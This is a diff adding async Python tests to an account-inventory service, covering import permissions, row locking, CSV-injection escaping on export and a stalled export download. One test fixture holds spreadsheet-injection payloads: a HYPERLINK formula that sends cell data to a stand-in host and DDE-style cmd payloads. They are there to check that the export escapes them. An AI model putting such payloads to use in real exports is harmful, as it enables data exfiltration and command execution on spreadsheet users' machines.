@@ -287,6 +287,77 @@ async def test_rows_for_districts_the_caller_does_not_manage(inventory: RunningS
     assert await count(inventory, "accounts") == 1
 
 
+async def test_a_caller_without_a_writing_role_is_refused_before_the_file_is_read(
+    inventory: RunningService,
+) -> None:
+    await imported(inventory, csv_body("x,orangefr,,fr,,,,"))
+    viewer = as_user("vera", hq="viewer", fr="contributor")
+    # Not even the content type is looked at: the body is never read.
+    garbage = await inventory.client.post(
+        "/accounts/import",
+        content=b"\x00\xff not a csv",
+        headers={**viewer, "content-type": "application/octet-stream"},
+    )
+    assert garbage.status_code == 403, garbage.text
+    assert garbage.headers["content-type"] == "application/problem+json"
+    assert garbage.json()["type"].endswith("/import-forbidden")
+    for dry_run in (True, False):
+        refused = await post_import(
+            inventory, csv_body("x,orangefr,,fr,,,,"), viewer, dry_run=dry_run
+        )
+        assert refused.status_code == 403
+        assert refused.json()["type"].endswith("/import-forbidden")
+    # Nor does it lock the accounts the file names: with one of them locked by another
+    # transaction, the refusal comes at once instead of waiting for that lock.
+    other = await asyncpg.connect(asyncpg_dsn(inventory.app.state.settings.database_url))
+    try:
+        async with other.transaction():
+            await other.execute("SELECT 1 FROM accounts WHERE handle_key = 'orangefr' FOR UPDATE")
+            async with asyncio.timeout(5):
+                locked = await post_import(inventory, csv_body("x,orangefr,Renamed,fr,,,,"), viewer)
+    finally:
+        await other.close()
+    assert locked.status_code == 403
+    # A manager of one district still gets the per-row district checks (see above).
+    assert (await post_import(inventory, csv_body("x,orangefr,,fr,,,,"), FR_MANAGER)).json()[
+        "unchanged"
+    ] == 1
+
+
+async def test_an_import_locks_only_accounts_its_importer_may_change(
+    inventory: RunningService,
+) -> None:
+    await imported(inventory, csv_body("x,orangede,,de,,,,", "x,orangefr,,fr,,,,"))
+    other = await asyncpg.connect(asyncpg_dsn(inventory.app.state.settings.database_url))
+    try:
+        async with other.transaction():
+            await other.execute("SELECT 1 FROM accounts WHERE handle_key = 'orangede' FOR UPDATE")
+            # The German account is locked elsewhere; a French manager's file that names it
+            # does not wait for that lock: the row is refused at once.
+            async with asyncio.timeout(5):
+                refused = await post_import(
+                    inventory, csv_body("x,orangede,Mine now,fr,,,,"), FR_MANAGER
+                )
+            assert refused.status_code == 422, refused.text
+            [error] = refused.json()["errors"]
+            assert "outside yours" in error["message"]
+            async with asyncio.timeout(5):
+                mine = await post_import(
+                    inventory, csv_body("x,orangefr,Orange FR,fr,,,,"), FR_MANAGER
+                )
+            assert mine.json()["updated"] == 1
+            # Its own accounts are locked while it checks and writes: a file naming the locked
+            # account, by someone who may change it, waits for the lock.
+            waiting = asyncio.create_task(
+                post_import(inventory, csv_body("x,orangede,Orange DE,de,,,,"), HQ_ADMIN)
+            )
+            await asyncio.sleep(0.5)
+            assert not waiting.done()
+    finally:
+        await other.close()
+    assert (await waiting).json()["updated"] == 1
+
+
 async def test_the_same_account_twice_in_a_file_is_an_error_on_the_later_line(
     inventory: RunningService,
 ) -> None:
@@ -628,3 +699,161 @@ async def test_export_reads_back_unchanged_and_an_edit_is_an_update(
     assert (result["updated"], result["unchanged"]) == (1, 3)
     [event] = await inventory.events(UPDATED)
     assert event["data"]["changed"] == ["display_name"]
+
+
+# --- formulas (CSV injection) ---------------------------------------------------------------
+
+
+FORMULAS = {
+    "display_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "purpose": "+cmd|' /C calc'!A0",
+    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tags": ["-2+3", "=1", "plain"],
+}
+
+
+async def register_for_export(service: RunningService, handle: str, **fields: Any) -> str:
+    response = await service.client.post(
+        "/accounts",
+        json={"platform": "instagram", "handle": handle, "district_id": "fr", **fields},
+        headers=HQ_ADMIN,
+    )
+    assert response.status_code == 201, response.text
+    return str(response.json()["id"])
+
+
+async def test_export_neutralises_formulas_and_the_import_reads_them_back(
+    inventory: RunningService,
+) -> None:
+    await register_for_export(inventory, "formulas", **FORMULAS)
+    await register_for_export(
+        inventory,
+        "quoted",
+        display_name="'quoted' on purpose",
+        purpose="''two quotes",
+        notes="\tstarts with a tab",
+        owners=[{"person": "-dash", "role": "primary"}, {"person": "'q", "role": "backup"}],
+    )
+    before = await accounts_by_handle(inventory)
+    response = await export(inventory)
+    rows = {r["handle"]: r for r in read_csv(response)}
+    formulas, quoted = rows["formulas"], rows["quoted"]
+    assert formulas["display_name"] == "'" + FORMULAS["display_name"]
+    assert formulas["purpose"] == "'" + FORMULAS["purpose"]
+    assert formulas["notes"] == "'" + FORMULAS["notes"]
+    assert formulas["tags"] == "'-2+3|=1|plain"
+    assert quoted["display_name"] == "''quoted' on purpose"
+    assert quoted["purpose"] == "'''two quotes"
+    assert quoted["notes"] == "'\tstarts with a tab"
+    assert (quoted["owner_primary"], quoted["owner_backup"]) == ("'-dash", "''q")
+    # No cell of the file is one a spreadsheet would run.
+    for row in rows.values():
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # The file reads back as it was: nothing changes, and the values are the originals.
+    events = len(await inventory.events())
+    result = await imported(inventory, response.text)
+    assert (result["unchanged"], result["updated"]) == (2, 0)
+    assert len(await inventory.events()) == events
+    assert await accounts_by_handle(inventory) == before
+    # The same cells as new accounts (on another platform): the stored values are unescaped.
+    reader = csv.DictReader(io.StringIO(response.text))
+    fields = [f for f in reader.fieldnames or () if f != "profile_url"]
+    copy = io.StringIO()
+    writer = csv.DictWriter(copy, fields, extrasaction="ignore", lineterminator="\r\n")
+    writer.writeheader()
+    writer.writerows({**row, "platform": "tiktok"} for row in reader)
+    assert (await imported(inventory, copy.getvalue()))["created"] == 2
+    listed = await inventory.client.get(
+        "/accounts", params={"platform": "tiktok"}, headers=HQ_ADMIN
+    )
+    copies = {a["handle"]: a for a in listed.json()["items"]}
+    assert copies["formulas"]["display_name"] == FORMULAS["display_name"]
+    assert copies["formulas"]["notes"] == FORMULAS["notes"]
+    assert sorted(copies["formulas"]["tags"]) == sorted(FORMULAS["tags"])
+    assert copies["quoted"]["display_name"] == "'quoted' on purpose"
+    assert copies["quoted"]["purpose"] == "''two quotes"
+    assert copies["quoted"]["notes"] == "\tstarts with a tab"
+    assert {o["person"] for o in copies["quoted"]["owners"]} == {"-dash", "'q"}
+
+
+async def test_export_with_formulas_kept_still_reads_back(inventory: RunningService) -> None:
+    await register_for_export(inventory, "formulas", **FORMULAS)
+    await register_for_export(inventory, "quoted", display_name="'quoted")
+    response = await export(inventory, escape_formulas="false")
+    rows = {r["handle"]: r for r in read_csv(response)}
+    assert rows["formulas"]["display_name"] == FORMULAS["display_name"]
+    assert rows["quoted"]["display_name"] == "''quoted"  # the escape itself is always escaped
+    assert (await imported(inventory, response.text))["unchanged"] == 2
+
+
+# --- a slow reader --------------------------------------------------------------------------
+
+
+async def test_a_slow_reader_of_the_export_holds_no_database_connection(
+    inventory: RunningService,
+) -> None:
+    await imported(inventory, csv_body(*(f"instagram,acct_{i:04d},,fr,,,," for i in range(2100))))
+    engine = inventory.app.state.engine
+    assert engine.pool.checkedout() == 0
+    # The ASGI app driven directly, by a client that stops reading after the first page of
+    # rows: the app's send() blocks, as it does when a real client's socket buffer is full.
+    chunks: list[bytes] = []
+    paused, resume, finished = asyncio.Event(), asyncio.Event(), asyncio.Event()
+    request_sent = False
+
+    async def receive() -> dict[str, Any]:
+        nonlocal request_sent
+        if not request_sent:
+            request_sent = True
+            return {"type": "http.request", "body": b"", "more_body": False}
+        await finished.wait()
+        return {"type": "http.disconnect"}
+
+    async def send(message: dict[str, Any]) -> None:
+        if message["type"] == "http.response.start":
+            assert message["status"] == 200
+        elif message["type"] == "http.response.body":
+            chunks.append(message.get("body", b""))
+            if len(chunks) == 2:  # the header line, then the first page of rows
+                paused.set()
+                await resume.wait()
+
+    scope = {
+        "type": "http",
+        "asgi": {"version": "3.0", "spec_version": "2.3"},
+        "http_version": "1.1",
+        "method": "GET",
+        "scheme": "http",
+        "path": "/accounts/export",
+        "raw_path": b"/accounts/export",
+        "query_string": b"",
+        "root_path": "",
+        "headers": [(b"host", b"service")]
+        + [(k.lower().encode(), v.encode()) for k, v in HQ_ADMIN.items()],
+        "client": ("127.0.0.1", 50000),
+        "server": ("service", 80),
+        "state": {},
+    }
+    running = asyncio.create_task(inventory.app(scope, receive, send))
+    try:
+        async with asyncio.timeout(10):
+            await paused.wait()
+        # Stalled mid-download: no pooled connection is checked out, and the server has no
+        # session of this database in a transaction.
+        assert engine.pool.checkedout() == 0
+        open_transactions = await inventory.scalar(
+            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
+            " AND pid <> pg_backend_pid() AND xact_start IS NOT NULL"
+        )
+        assert open_transactions == 0
+    finally:
+        resume.set()
+        async with asyncio.timeout(10):
+            await running
+        finished.set()
+    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
+    assert len(rows) == 2100
+    assert [r["handle"] for r in rows[:2]] == ["acct_0000", "acct_0001"]
+    assert rows[-1]["handle"] == "acct_2099"
+    assert engine.pool.checkedout() == 0
